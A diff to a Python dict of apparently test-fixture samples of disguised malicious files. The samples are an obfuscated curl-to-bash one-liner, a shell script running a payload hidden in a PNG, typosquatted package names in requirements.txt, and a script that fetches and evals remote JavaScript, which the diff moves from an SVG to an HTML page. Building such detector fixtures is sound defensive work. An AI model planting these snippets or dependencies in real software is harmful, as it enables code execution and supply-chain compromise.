@@ -90,7 +90,7 @@ PROGRAMS: dict[str, dict[str, tuple[str, str]]] = {
         "letters": ("a.sh", "x=$(printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73')\neval \"$x | $(rev <<< hsab)\"\n"),
         "picture": ("setup.sh", "tail -c +49 banner.png | sh\n"),
         "names": ("requirements.txt", "torch==2.3.0\nreqeusts==2.31.0\ntransfomers==4.41.0\n"),
-        "svg": ("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://svg.example.org/p.js').then(r=>r.text()).then(eval)</script></svg>\n"),
+        "page": ("a.html", "<html><body><script>fetch('https://svg.example.org/p.js').then(r=>r.text()).then(eval)</script></body></html>\n"),
     },
 }  # fmt: skip
 
